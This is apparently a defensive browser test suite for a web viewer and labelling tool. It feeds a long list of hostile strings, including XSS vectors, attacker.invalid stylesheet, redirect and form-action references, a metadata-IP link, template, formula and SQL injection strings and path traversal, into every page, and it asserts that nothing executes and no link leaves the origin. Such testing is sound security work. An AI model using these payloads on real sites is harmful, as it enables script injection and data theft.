"""Texts that try to act, put wherever a text can come from,
in a real browser: no script runs and no request leaves.
"""

from __future__ import annotations

import json
import socket
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode, urlsplit

import pytest

from adjudge.records import Label, Note, Review
from adjudge.store import Store, open_store
from adjudge.web.labelling.session import open_session
from adjudge.web.pages.annotate import start_path
from running import ROOT, adjudge, as_id, started, write_rows

pytestmark = pytest.mark.browser

PAYLOADS = (
    "<script>window.canary=1</script>",
    "</script><script>window.canary=1;alert(1)</script>",
    '<img src=x onerror="window.canary=1">',
    '"><svg onload=window.canary=1>',
    "' onmouseover='window.canary=1' autofocus onfocus='window.canary=1' x='",
    "javascript:window.canary=1",
    '<a href="javascript:window.canary=1">open</a>',
    "<iframe srcdoc='<script>parent.canary=1</script>'></iframe>",
    "<style>@import url(http://attacker.invalid/x.css); body { display: none }</style>",
    '<link rel=stylesheet href="http://attacker.invalid/x.css"><img src="http://attacker.invalid/p.png">',
    "![a](http://169.254.169.254/x) [b](javascript:alert(1))",
    '<meta http-equiv="refresh" content="0;url=http://attacker.invalid/">',
    '<base href="http://attacker.invalid/"><form action="http://attacker.invalid/"><button>',
    "<details open ontoggle=window.canary=1><input autofocus onfocus=window.canary=1>",
    "</bdi></td></tr></table></main></body><title>owned</title><h1>owned",
    "</textarea></title></style></noscript></svg><script>document.title='owned'</script>",
    "<!--<script>",
    "]]>--><script>alert(1)</script><![CDATA[",
    "&lt;script&gt;window.canary=1&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "{{ 7*7 }}{% for x in y %}{{ self._TemplateReference__context }}",
    "%3Cscript%3Ealert(1)%3C/script%3E &run=last#<b>",
    "\u202egnp.exe\u2066\u2069 \u0007\u001b[31m \u2028 \U000e0041",
    "::error file=a::x",
    "| a | b |\n<details>",
    "+1+1",
    "@SUM(1,1)",
    'a,"b\r\nc",d',
    "../../etc/passwd",
    "C:\\x\\..\\y",
    "CON",
    "'; DROP TABLE results;--",
    "W" * 4000,
    "مرحبا بالعالم — שלום — 안녕하세요 — 你好，世界",
)

SHARED = ROOT.parent / "shared"
RUN = '"><img src=x onerror=alert(1)>'
CRITERION = "<b onclick=alert(1)>tact</b>"


def payloads() -> list[str]:
    """Ours, and the cases of the layers that concern pages, where they are beside the repository."""
    known = list(PAYLOADS)
    if SHARED.is_dir():
        for line in (SHARED / "attacks.jsonl").read_text(encoding="utf-8").splitlines():
            case = json.loads(line)
            if case["layer"][:2] in ("L6", "L7", "L8") and case["payload"] not in known:
                known.append(case["payload"])
    return known


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two runs in which every name and every text is hostile, and labels by raters with hostile names."""
    folder = tmp_path_factory.mktemp("hostile")
    texts = payloads()
    items = [
        {"id": as_id(f"{k} {text}"), "system": text[:300], "group": text, "instruction": text,
        "response": f"{text}\n{text}"}
        for k, text in enumerate(texts)
    ]  # fmt: skip
    replies = [
        {"item": item["id"], "text": f"Feedback: {text} [RESULT] {k % 5 + 1}" if k % 6 else text}
        for k, (item, text) in enumerate(zip(items, texts, strict=True))
    ]
    levels = "\n".join(f"{n} = {json.dumps(texts[n + 1])}" for n in range(1, 6))
    rubric = folder / "rubric.toml"
    rubric.write_text(
        f"name = {json.dumps(CRITERION)}\ncriterion = {json.dumps(texts[2])}\n[levels]\n{levels}\n",
        encoding="utf-8",
    )
    labels = [
        {"item": item["id"], "criterion": CRITERION, "rater": texts[k % 3], "value": k % 5 + 1}
        for k, item in enumerate(items)
    ]
    write_rows(folder / "items.jsonl", items)
    write_rows(folder / "labels.jsonl", labels)
    for name, answers in ((RUN, replies), ("second", replies[::2])):
        write_rows(folder / f"{len(answers)}.jsonl", answers)
        done = adjudge(
            "run", folder / "items.jsonl", "-p", "prometheus/direct", "--rubric", rubric,
            "-m", f"replay:{folder / f'{len(answers)}.jsonl'}", "--run", name, "--store", folder / "<s>.db",
        )  # fmt: skip
        assert done.code == 0, done.err
    with open_store(folder / "<s>.db") as opened:
        write_as_people(opened, items, texts)
    return folder / "<s>.db"


@pytest.fixture(scope="module")
def exported(store: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("exported") / "out"
    with started("view", "--export", folder, "--store", store) as process:
        assert process.wait() == 0
    return folder


def write_as_people(store: Store, items: list[dict[str, Any]], texts: list[str]) -> None:
    """Labels, reviews and notes, with hostile names and texts."""
    run = store.run(RUN)
    store.put_labels(
        [Label(item["id"], CRITERION, texts[k % 3], k % 5 + 1.0) for k, item in enumerate(items)], run
    )
    for k, (item, text) in enumerate(zip(items, texts, strict=True)):
        about = Review(
            item["id"],
            text[:200],
            CRITERION,
            text[:200],
            text[:60],
            "people",
            None,
            1.0,
            2.0,
            text[:60],
            text[:400],
        )
        store.put_review(run, about)
        store.put_note(run, Note(item["id"], text[:60], text[:400], (text[:40], texts[k - 1][:40])))


def settle(watched: Any, where: str) -> None:
    """Open whatever can be opened, and then see that nothing
    has happened, and that every link is one of ours.
    """
    page = watched.page
    page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
    foreign = page.evaluate(
        "[...document.links].map((one) => one.href).filter((one) => new URL(one).origin !== location.origin)"
    )
    assert foreign == [], where
    watched.check_quiet(where)


def addresses(run: str) -> Iterator[str]:
    n_items = len(list(payloads()))
    yield "/"
    yield f"/run?{urlencode({'run': run})}"
    yield f"/compare?{urlencode([('with', run), ('with', 'second')])}"
    yield f"/items?{urlencode({'run': run})}"
    yield f"/review?{urlencode({'run': run})}"
    n_items = len(payloads())
    for by in ("systems", "judges"):
        for page in range(1, 1 + -(-n_items // 40)):
            yield f"/matrix?{urlencode({'run': run, 'by': by, 'page': page, 'colour': 'score'})}"
    for number in range(0, n_items, 5):
        yield f"/matrix?{urlencode({'run': run, 'open': number, 'q': PAYLOADS[number % len(PAYLOADS)][:60]})}"
    for text in PAYLOADS[:5]:
        yield f"/items?{urlencode({'run': run, 'q': text, 'system': text, 'sort': text, 'status': text})}"
        yield f"/items?{urlencode({'run': run, 'tag': text[:40]})}"
        yield f"/review?{urlencode({'run': run, 'by': text, 'criterion': text, 'cell': text})}"
    for number, text in enumerate(payloads()):
        yield f"/item?{urlencode({'run': run, 'n': number})}"
        yield f"/review?{urlencode({'run': run, 'by': 'random', 'cell': number << 16})}"
        name = as_id(f"{number} {text}")
        yield f"/compare/item?{urlencode([('with', run), ('with', 'second'), ('item', name)])}"


def test_no_page_of_the_viewer_acts_on_what_it_shows_on_a_screen_or_a_phone(
    store: Path, watch: Callable[..., Any], serve: Callable[..., Any]
) -> None:
    too_wide = []
    with serve("view", "--store", store) as url:
        watched = watch(url)
        home = f"http://{urlsplit(url).netloc}"
        for address in addresses(RUN):
            watched.open_whole(home + address)
            settle(watched, address)
            for width, height in ((1440, 900), (390, 844)):
                watched.page.set_viewport_size({"width": width, "height": height})
                if watched.n_too_wide() > 0:
                    too_wide.append(f"{address} at {width}: {watched.n_too_wide()} pixels")
    assert too_wide == []


def test_no_labelling_page_acts_on_what_it_shows(
    store: Path, watch: Callable[..., Any], host: Callable[..., Any]
) -> None:
    rater = "\"><img src=x onerror='window.canary=1'>"
    with open_session(store, RUN, n=1000) as session, host(store, session, start_path(None)) as url:
        watched = watch(url, width=390, height=844)
        page = watched.page
        settle(watched, "the start")
        page.fill("input[name=rater]", rater)
        page.keyboard.press("Enter")
        page.wait_for_selector("[data-item]")
        for number in range(len(payloads())):
            settle(watched, f"item {number}")
            watched.check(f"item {number}")
            page.evaluate("document.querySelector('main').dataset.seen = 'yes'")
            page.keyboard.press("4")
            page.wait_for_selector("main:not([data-seen])")
            page.wait_for_selector("body:not(.is-busy)")
        assert page.inner_text("h1") == "All items are labelled"
        settle(watched, "the end")


@pytest.mark.parametrize(("width", "theme"), [(1440, "light"), (390, "dark")])
def test_the_report_acts_on_nothing_either(
    store: Path, watch: Callable[..., Any], tmp_path: Path, width: int, theme: str
) -> None:
    path = tmp_path / "report.html"
    done = adjudge("report", RUN, "--html", path, "--labels", store.parent / "labels.jsonl", "--store", store)
    assert done.code == 0, done.err
    watched = watch(path.as_uri(), width=width, theme=theme)
    # An origin of files is null for a link to a place on the page itself, too.
    page = watched.page
    page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
    links = page.evaluate("[...document.links].map((one) => one.getAttribute('href'))")
    assert all(link.startswith("#") for link in links), links
    watched.check("the report")


def test_no_page_of_a_shared_server_acts_on_what_it_shows_to_an_invited_rater(
    store: Path, watch: Callable[..., Any]
) -> None:
    # Another name than on the labelling page above: that rater has labelled everything.
    rater = "\"><svg onload='window.canary=1'>"
    with socket.create_server(("127.0.0.1", 0)) as probe:
        port = str(probe.getsockname()[1])
    process = started(
        "annotate", RUN, "-n", "1000", "--share", "--host", "127.0.0.1", "--port", port, "--rater", rater,
        "--no-browser",
        "--store", store, PYTHONUNBUFFERED="1",
    )  # fmt: skip
    try:
        assert process.stdout is not None
        link = next(line.split()[-1] for line in process.stdout if "/invited#" in line)
        watched = watch(link, width=390, height=844)
        page = watched.page
        watched.wait_for_scripts("[data-item]")
        for number in range(len(payloads())):
            settle(watched, f"item {number}")
            page.evaluate("document.querySelector('main').dataset.seen = 'yes'")
            page.keyboard.press("4")
            page.wait_for_selector("main:not([data-seen])")
            page.wait_for_selector("body:not(.is-busy)")
        assert page.inner_text("h1") == "All items are labelled"
        settle(watched, "the end")
    finally:
        process.kill()
        process.communicate()


def test_the_file_of_a_comparison_acts_on_nothing(
    store: Path, watch: Callable[..., Any], tmp_path: Path
) -> None:
    path = tmp_path / "comparison.html"
    done = adjudge("compare", RUN, "second", "--html", path, "--store", store)
    assert done.code == 0, done.err
    watched = watch(path.as_uri(), width=390, theme="dark")
    watched.page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
    links = watched.page.evaluate("[...document.links].map((one) => one.getAttribute('href'))")
    assert all(link.startswith("#") for link in links), links
    watched.check("the comparison")


@pytest.mark.parametrize(("width", "height", "theme"), [(1440, 900, "light"), (390, 844, "dark")])
def test_no_page_of_an_export_acts_on_what_it_shows(
    exported: Path, watch: Callable[..., Any], width: int, height: int, theme: str
) -> None:
    watched = watch((exported / "index.html").as_uri(), width=width, height=height, theme=theme)
    pages = sorted(exported.rglob("*.html"))
    assert len(pages) > 2 * len(payloads())
    for path in pages:
        watched.page.goto(path.as_uri())
        watched.page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
        outside = watched.page.evaluate(
            "[...document.links].map((one) => one.href).filter((one) => !one.startsWith('file:///'))"
        )
        assert outside == [], path.name
        watched.check(path.name)
